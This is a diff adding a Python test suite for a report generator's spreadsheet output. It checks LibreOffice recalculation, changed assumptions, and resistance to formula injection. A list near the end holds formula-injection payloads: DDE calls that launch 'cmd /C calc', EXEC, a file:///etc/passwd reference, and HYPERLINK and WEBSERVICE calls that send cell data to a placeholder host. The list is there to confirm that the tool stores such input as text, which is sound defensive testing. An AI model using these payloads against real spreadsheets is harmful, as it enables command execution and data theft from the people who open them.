@@ -1,0 +1,268 @@
+"""The workbooks in a spreadsheet program, LibreOffice without a window: they open, they recalculate to what is stored, they answer to a
+changed assumption as casebook does, and no word of an input becomes a formula or a link."""
+import csv
+import json
+import os
+import re
+import shutil
+import xml.etree.ElementTree as ElementTree
+import zipfile
+
+from runs import ROOT, Folder, inputs_of, run, visible
+
+SAMPLE = os.path.join(ROOT, "sample-data")
+MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
+RELATION = "{http://schemas.openxmlformats.org/officeDocument/2006/relationships}"
+ERRORS = ("#REF!", "#NAME?", "#DIV/0!", "#VALUE!", "#N/A", "#NUM!", "#NULL!")
+# Recalculate every file when it is loaded: what is stored must not be taken over.
+PROFILE = """<?xml version="1.0" encoding="UTF-8"?>
+<oor:items xmlns:oor="http://openoffice.org/2001/registry">
+<item oor:path="/org.openoffice.Office.Calc/Formula/Load"><prop oor:name="OOXMLRecalcMode" oor:op="fuse"><value>0</value></prop></item>
+</oor:items>
+"""
+
+
+# ---- a small reader of workbooks, apart from the one that casebook has ----------------------------------------------
+
+class Book:
+    """cells: (sheet, address) -> (formula or None, type, value as text)."""
+
+    def __init__(self, path):
+        with zipfile.ZipFile(path) as package:
+            self.parts = {n: package.read(n) for n in package.namelist()}
+        self.trees = {n: ElementTree.fromstring(d) for n, d in self.parts.items() if n.endswith((".xml", ".rels"))}
+        self.strings = ["".join(t.text or "" for t in item.iter(MAIN + "t")) for item in self.tree("xl/sharedStrings.xml", MAIN + "si")]
+        self.cells = {}
+        for name, part in self.sheets():
+            for cell in self.trees[part].iter(MAIN + "c"):
+                self.cells[name, cell.get("r")] = self.read(cell)
+
+    def tree(self, name, element):
+        return self.trees[name].iter(element) if name in self.trees else []
+
+    def sheets(self):
+        targets = {r.get("Id"): r.get("Target") for r in self.trees["xl/_rels/workbook.xml.rels"]}
+        for sheet in self.tree("xl/workbook.xml", MAIN + "sheet"):
+            target = targets[sheet.get(RELATION + "id")]
+            yield sheet.get("name"), target.lstrip("/") if target.startswith("/") else "xl/" + target
+
+    def read(self, cell):
+        value, formula = cell.find(MAIN + "v"), cell.find(MAIN + "f")
+        text = "" if value is None else value.text or ""
+        if cell.get("t") == "s":
+            text = self.strings[int(text)]
+        return None if formula is None else formula.text or "", cell.get("t"), text
+
+    def formulas(self):
+        return {k: v for k, v in self.cells.items() if v[0] is not None}
+
+    def named(self, name):
+        """(sheet, address) of a defined name."""
+        place = next(n.text for n in self.tree("xl/workbook.xml", MAIN + "definedName") if n.get("name") == name)
+        sheet, address = place.rsplit("!", 1)
+        return sheet.strip("'"), address.replace("$", "")
+
+    def value(self, name):
+        return float(self.cells[self.named(name)][2])
+
+
+def convert(folder, kind, files):
+    """LibreOffice on several files in one call; returns the paths that it made, in order."""
+    profile = folder("profile")
+    if not os.path.isdir(profile):
+        os.makedirs(os.path.join(profile, "user"))
+        with open(os.path.join(profile, "user", "registrymodifications.xcu"), "w", encoding="utf-8") as f:
+            f.write(PROFILE)
+    out = folder("converted-" + kind)
+    done = run(["soffice", f"-env:UserInstallation=file://{profile}", "--headless", "--convert-to", kind, "--outdir", out, *files], timeout=300)
+    made = [os.path.join(out, os.path.splitext(os.path.basename(f))[0] + "." + kind) for f in files]
+    complaints = [x for x in done.stderr.decode("utf-8", "replace").splitlines() if re.search(r"error|could not", x, re.I) and "java" not in x.lower()]
+    return made, complaints
+
+
+def same_value(stored, again):
+    try:
+        a, b = float(stored), float(again)
+    except ValueError:
+        return stored == again
+    return abs(a - b) <= 1e-9 * max(1.0, abs(a), abs(b))
+
+
+# ---- what must hold -------------------------------------------------------------------------------------------------
+
+def check_parts(tally, name, book):
+    errors = [k for k, v in book.cells.items() if v[1] == "e" or v[2] in ERRORS]
+    tally.equal(errors, [], f"{name}: no error values")
+    outside = [n for n, d in book.parts.items() if b'TargetMode="External"' in d or "externalLink" in n or "vba" in n.lower()]
+    tally.equal(outside, [], f"{name}: nothing leads outside")
+    tally.ok(all(len(v[2]) <= 32767 for v in book.cells.values()), f"{name}: no text is too long for a cell")
+
+
+def check_recalculated(tally, name, stored, again, words=ERRORS):
+    formulas = stored.formulas()
+    apart = [(k, v[2], again.cells.get(k, (None, None, "gone"))[2]) for k, v in formulas.items()
+             if not same_value(v[2], again.cells.get(k, (None, None, "gone"))[2])]
+    tally.equal(apart[:3], [], f"{name}: {len(formulas)} formulas recalculate to what is stored")
+    errors = [k for k, v in again.cells.items() if v[1] == "e" or v[2] in words]
+    tally.equal(errors[:3], [], f"{name}: no error values after recalculation")
+    return len(formulas)
+
+
+def check_numbers(tally, name, stored, again):
+    """Every cell reads the same in LibreOffice: nothing there was taken for something else."""
+    apart = [(k, v[2][:40], again.cells.get(k, (None, None, ""))[2][:40]) for k, v in stored.cells.items()
+             if v[2] and not same_value(v[2].rstrip(), again.cells.get(k, (None, None, ""))[2].rstrip())]
+    tally.equal(apart[:3], [], f"{name}: all {len(stored.cells)} cells read the same")
+
+
+def spoil(path, to):
+    """A workbook whose stored results are wrong: recalculation must put them right, or it did not take place."""
+    with zipfile.ZipFile(path) as package, zipfile.ZipFile(to, "w", zipfile.ZIP_DEFLATED) as out:
+        for name in package.namelist():
+            data = package.read(name)
+            if name.startswith("xl/worksheets/sheet"):
+                data = re.sub(rb"(</f><v>)[-0-9.E+]+(</v>)", rb"\g<1>4711\g<2>", data)
+            out.writestr(name, data)
+
+
+def section_workbooks(program, tally):
+    if not shutil.which("soffice"):
+        return tally.skip("workbooks", "LibreOffice (soffice) is not there")
+    with Folder() as folder:
+        out = folder("out")
+        done = run([program, "all", *inputs_of(SAMPLE), "--out", out])
+        tally.equal((done.returncode, done.stderr), (0, b""), "workbooks: the run")
+        files = sorted(os.path.join(out, n) for n in visible(out) if n.endswith(".xlsx"))
+        tally.equal(len(files), 3, "workbooks: three of them")
+        pages, complaints = convert(folder, "pdf", files)
+        tally.equal(complaints, [], "workbooks: LibreOffice complains of nothing")
+        for path in pages:
+            size = os.path.getsize(path) if os.path.exists(path) else 0
+            tally.ok(size > 20000, f"{os.path.basename(path)}: printed", f"{size} bytes")
+        spoil(files[1], folder("spoiled.xlsx"))
+        again, _ = convert(folder, "xlsx", files + [folder("spoiled.xlsx")])
+        formulas = 0
+        for path, new in zip(files, again):
+            name, stored, recalculated = os.path.basename(path), Book(path), Book(new)
+            check_parts(tally, name, stored)
+            formulas += check_recalculated(tally, name, stored, recalculated)
+            check_numbers(tally, name, stored, recalculated)
+        tally.ok(formulas >= 12, "workbooks: there are formulas to recalculate", str(formulas))
+        spoiled = Book(again[3])
+        wrong = [k for k, v in Book(files[1]).formulas().items() if not same_value(v[2], spoiled.cells[k][2])]
+        tally.equal(wrong[:3], [], "workbooks: LibreOffice does recalculate")
+
+
+# ---- a changed assumption -------------------------------------------------------------------------------------------
+
+# What a manager may type into the Assumptions sheet -> which must then be what casebook computes under that setting.
+CHANGES = ({"annual_loss_rate": 0.3}, {"annual_loss_rate": 0.05, "service_share": 0.5, "prior_weight": 5000}, {"lifetime": 1, "retention": 0.6},
+           {"reach": 0.25, "silent_leave": 0.6}, {"stay_dissatisfied_large": 0.05, "stay_quick_small": 0.93})
+FOLLOWS = (("benchmark_cost", "benchmark.cost"), ("headline_cost", "cost.value"), ("bottom_up_cost", "bottom_up.cost"), ("credibility", "credibility"))
+
+
+def with_values(path, to, values):
+    """A copy of the workbook with other numbers in named cells."""
+    book = Book(path)
+    places = {}
+    for name, value in values.items():
+        sheet, address = book.named(name)
+        places.setdefault(dict(book.sheets())[sheet], {})[address] = value
+    with zipfile.ZipFile(to, "w", zipfile.ZIP_DEFLATED) as out:
+        for name, data in book.parts.items():
+            for address, value in places.get(name, {}).items():
+                data, n = re.subn(rb'(<c r="%s"[^>]*>)<v>[^<]*</v>' % address.encode(), rb"\g<1><v>%s</v>" % str(value).encode(), data)
+                if n != 1:
+                    raise ValueError(f"{name} {address}: {n} cells")
+            out.writestr(name, data)
+
+
+def churn_of(program, folder, values):
+    words = [w for k, v in values.items() for w in ("--set", f"assumptions.{k}={v}")]
+    out = folder("set")
+    done = run([program, "quarterly", *inputs_of(SAMPLE), "--format", "json", "--out", out, *words])
+    if done.returncode != 0:
+        raise RuntimeError(done.stderr.decode())
+    with open(os.path.join(out, "quarterly-2026-Q3.json"), encoding="utf-8") as f:
+        return json.load(f)["churn"]
+
+
+def section_assumptions(program, tally):
+    if not shutil.which("soffice"):
+        return tally.skip("assumptions", "LibreOffice (soffice) is not there")
+    with Folder() as folder:
+        done = run([program, "quarterly", *inputs_of(SAMPLE), "--out", folder("out")])
+        tally.equal((done.returncode, done.stderr), (0, b""), "assumptions: the run")
+        base = os.path.join(folder("out"), "quarterly-2026-Q3.xlsx")
+        changed = [folder(f"changed-{i}.xlsx") for i in range(len(CHANGES))]
+        for values, path in zip(CHANGES, changed):
+            with_values(base, path, values)
+        before = {name: Book(base).value(name) for name, _ in FOLLOWS}
+        for values, path in zip(CHANGES, convert(folder, "xlsx", changed)[0]):
+            book, churn = Book(path), churn_of(program, folder, values)
+            for name, key in FOLLOWS:
+                want = churn
+                for step in key.split("."):
+                    want = want[step]
+                tally.ok(abs(book.value(name) - want) <= max(0.011, 1e-9 * abs(want)), f"assumptions {values}: {name}",
+                         f"the sheet gives {book.value(name)}, casebook {want}")
+            tally.ok(any(abs(book.value(n) - before[n]) > 0.01 for n, _ in FOLLOWS) or "reach" in values, f"assumptions {values}: something follows")
+
+
+# ---- words that look like formulas ----------------------------------------------------------------------------------
+
+PAYLOADS = [
+    "=1+1", "=1+1\t", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@cmd|' /C calc'!A0",
+    "=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"click\")", "=IMPORTXML(\"http://example.invalid\",\"//a\")", "=WEBSERVICE(\"http://example.invalid\")",
+    "=IMPORTDATA(\"http://example.invalid\")", "=IMAGE(\"http://example.invalid/x.png\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=EXEC(\"calc\")",
+    "='file:///etc/passwd'#$passwd.A1", "=[book.xlsx]Sheet1!A1", "=SUM(A:A)", "=A1", "{=1+1}", "=-1", "==1", "=\t1", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1",
+    "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff201+1", "'=1+1", "\"=1+1", "=1+1;=2+2", "%0A=1+1", "http://example.invalid", "internal:'Run'!A1", "external:c:\\x.xlsx",
+    "mailto:someone@example.invalid", "<f>1+1</f>", "</t></si><si><t>", "]]>", "&lt;f&gt;", "_x003D_1+1", "#REF!", "#N/A", "TRUE", "1E5", "0012", "2026-02-30", "1/2",
+]
+
+
+def hostile_book(path):
+    header = ["case_id", "opened_at", "resolved_at", "kind", "root_cause", "product", "unit", "channel", "team", "agent", "priority", "region", "customer_id", "text"]
+    with open(path, "w", encoding="utf-8", newline="") as f:
+        writer = csv.writer(f, quoting=csv.QUOTE_ALL)
+        writer.writerow(header)
+        for i in range(20 * len(PAYLOADS)):
+            word = PAYLOADS[i % len(PAYLOADS)]
+            writer.writerow([f"{word}{i}", f"2026-0{1 + i % 9}-{1 + i % 28:02}", "", *[word] * 9, word, word])
+
+
+def check_hostile(tally, name, book):
+    formulas = sorted({v[0] for v in book.formulas().values()})
+    tally.ok(not any(p.lstrip("=+-@\t\r\n ") in f for f in formulas for p in PAYLOADS if len(p) > 6), f"hostile {name}: no formula of the input's", str(formulas))
+    links = [h.get("location") or h.get(RELATION + "id") for n, t in book.trees.items() if n.startswith("xl/worksheets") for h in t.iter(MAIN + "hyperlink")]
+    tally.ok(all(re.match(r"'[A-Za-z0-9 -]+'!", x) for x in links), f"hostile {name}: links lead to sheets of the workbook", str(links[:3]))
+    names = [n.text for n in book.tree("xl/workbook.xml", MAIN + "definedName")]
+    tally.ok(not any("example.invalid" in n or "cmd" in n for n in names), f"hostile {name}: no name of the input's")
+    texts = {v[2] for v in book.cells.values()}
+    seen = [p for p in PAYLOADS if p.strip() in texts or p in texts]
+    return set(seen)
+
+
+def section_hostile(program, tally):
+    with Folder() as folder:
+        hostile_book(folder("cases.csv"))
+        done = run([program, "all", "--cases", folder("cases.csv"), "--out", folder("out"), "--set", "report.min_group=1"])
+        if not tally.equal((done.returncode, done.stderr), (0, b""), "hostile: the run"):
+            return
+        files = sorted(os.path.join(folder("out"), n) for n in visible(folder("out")) if n.endswith(".xlsx"))
+        seen = set()
+        for path in files:
+            book = Book(path)
+            check_parts_hostile(tally, path, book)
+            seen |= check_hostile(tally, os.path.basename(path), book)
+        tally.ok(len(seen) >= 40, "hostile: the words stand in the sheets, as text", f"{len(seen)} of {len(PAYLOADS)}; not {sorted(set(PAYLOADS) - seen)}")
+        if shutil.which("soffice"):
+            again, complaints = convert(folder, "xlsx", files)
+            tally.equal(complaints, [], "hostile: LibreOffice complains of nothing")
+            for path, new in zip(files, again):
+                check_recalculated(tally, "hostile " + os.path.basename(path), Book(path), Book(new), words=())
+
+
+def check_parts_hostile(tally, path, book):
+    outside = [n for n, d in book.parts.items() if b'TargetMode="External"' in d or b"oleObject" in d or b"ddeLink" in d]
+    tally.equal(outside, [], f"hostile {os.path.basename(path)}: nothing leads outside")
